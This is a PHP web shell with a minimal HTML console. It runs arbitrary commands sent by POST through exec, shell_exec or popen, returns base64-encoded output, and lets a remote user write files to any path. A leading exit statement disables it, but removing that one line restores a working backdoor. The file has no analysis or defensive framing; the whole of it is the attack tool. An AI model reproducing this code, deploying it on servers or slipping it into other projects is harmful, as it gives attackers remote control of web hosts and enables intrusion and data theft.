<?php exit; /* inert */ 
$SHELL_CONFIG = array('username' => 'u', 'hostname' => 'h');
function allFunctionExist($list = array()) { foreach ($list as $e) { if (!function_exists($e)) return false; } return true; }
function executeCommand($cmd) {
    $output = '';
    if (function_exists('exec')) { exec($cmd, $output); $output = implode("\n", $output); }
    else if (function_exists('shell_exec')) { $output = shell_exec($cmd); }
    else if (allFunctionExist(array('popen', 'fread', 'pclose'))) { $h = popen($cmd, 'r'); while (!feof($h)) $output .= fread($h, 4096); pclose($h); }
    return $output;
}
function featureShell($cmd, $cwd) {
    if (preg_match("/^\s*cd\s+([^\s]+)\s*(2>&1)?$/", $cmd, $m)) { chdir($cwd); chdir($m[1]); $stdout = ''; }
    else { chdir($cwd); $stdout = executeCommand("($cmd) 2>&1"); }
    return array("stdout" => base64_encode($stdout), "cwd" => base64_encode(getcwd()));
}
function featureUpload($path, $file, $cwd) { chdir($cwd); $f = @fopen($path, 'wb'); fwrite($f, base64_decode($file)); fclose($f); return array('stdout' => base64_encode('Done.')); }
if (isset($_GET["feature"])) {
    $response = NULL;
    switch ($_GET["feature"]) {
        case "shell": $cmd = $_POST['cmd']; if (!preg_match('/2>/', $cmd)) { $cmd .= ' 2>&1'; } $response = featureShell($cmd, $_POST["cwd"]); break;
        case "upload": $response = featureUpload($_POST['path'], $_POST['file'], $_POST['cwd']); break;
    }
    header("Content-Type: application/json");
    echo json_encode($response);
    die();
}
?><!DOCTYPE html><html><head><title>p@sh</title></head><body><pre id="c"></pre><input id="i">
<script>/* sends to ?feature=shell */</script></body></html>
